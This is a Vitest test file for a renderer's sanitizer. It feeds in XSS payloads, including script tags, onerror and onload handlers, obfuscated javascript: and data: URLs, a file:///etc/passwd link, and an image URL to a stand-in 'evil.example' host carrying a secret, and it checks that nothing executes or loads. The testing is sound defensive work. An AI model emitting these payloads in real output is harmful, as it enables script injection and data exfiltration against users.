import { describe, expect, it } from 'vitest';
import { StreamedDocument } from '../../src/render/streamed-document';

const allowed = new Set(
  'P H2 H3 H4 H5 H6 UL OL LI DIV INPUT BLOCKQUOTE FIGURE FIGCAPTION SPAN BUTTON PRE CODE TABLE THEAD TBODY TR TH TD HR BR STRONG EM DEL A IMG'.split(' '),
);

function render(text: string): HTMLElement {
  const container = document.createElement('div');
  new StreamedDocument(container).finish(text);
  return container;
}

describe('hostile answers', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'text <svg onload=alert(1)> text',
    '<iframe src="javascript:alert(1)"></iframe>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example)',
    '![x](https://evil.example/p.png?secret)',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '<style>@import "https://evil.example"</style>',
    '<a href="https://evil.example" onmouseover=alert(1)>x</a>',
  ])('make nothing that runs or loads: %s', (text) => {
    const container = render(text);
    for (const element of container.querySelectorAll('*')) {
      expect(allowed).toContain(element.tagName);
      expect([...element.attributes].filter((attribute) => attribute.name.startsWith('on'))).toEqual([]);
    }
    expect(container.querySelector('img')).toBeNull();
    for (const link of container.querySelectorAll('a')) {
      expect(link.href).toMatch(/^(https?|mailto|tel):/);
    }
  });

  it('show raw HTML as the text it is', () => {
    expect(render('<script>alert(1)</script>').textContent).toBe('<script>alert(1)</script>');
  });

  it('turn a remote image into a link that is opened only by choice', () => {
    const link = render('![A map](https://example.org/map.png)').querySelector('a');
    expect(link?.href).toBe('https://example.org/map.png');
    expect(link?.textContent).toBe('A map');
    expect(link?.rel).toContain('noreferrer');
  });
});
